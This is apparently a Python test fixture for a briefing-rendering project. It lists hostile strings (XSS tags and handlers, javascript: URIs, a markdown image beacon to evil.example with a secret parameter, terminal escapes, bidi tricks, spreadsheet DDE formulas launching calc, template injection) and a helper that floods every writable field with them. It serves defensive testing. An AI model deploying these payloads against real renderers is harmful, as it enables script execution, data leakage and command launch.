"""Texts that attack whatever shows them, and a briefing that is full of one."""

from __future__ import annotations

from crossbrief.schema import (
    Briefing,
)

HOSTILE = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror=alert(1)><svg onload=alert(1)>',
    "</script><script>alert(1)</script></style></title>-->]]>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://user:pass@evil.example/?q=1",
    "![pixel](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) <https://evil.example> www.evil.example a@evil.example",
    "[^a1]: forged\n\n# Forged heading\n\n---\n\n- forged item\n\n```\nfence",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x07\x08\x00\x7f",
    "\u202etxt.exe\u2066\u200b\ufeff\u2028\u2029\U000e0041",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
    "{{ 7*7 }} {% raw %} {0.__class__} %s ${x}",
    "&lt;b&gt; &amp;#60;",
    "' onmouseover='alert(1)",
)


_CLOSED = {
    "schema_version", "status", "type", "relation", "scope", "severity", "confidence", "match", "standing",
    "detected_by", "kind", "engine", "support", "author", "judged",
}  # fmt: skip


def poisoned(briefing: Briefing, text: str) -> Briefing:
    """The same briefing with `text` in place of everything an article, a page or a model can write, ids included."""

    def walk(node: object, key: str = "") -> object:
        if isinstance(node, dict):
            return {k: v if k in _CLOSED else walk(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(item, key) for item in node]
        if isinstance(node, str):
            return f"{text}{node}" if key in {"id", "article"} else text
        return node

    return Briefing.model_validate(walk(briefing.model_dump(mode="json")))
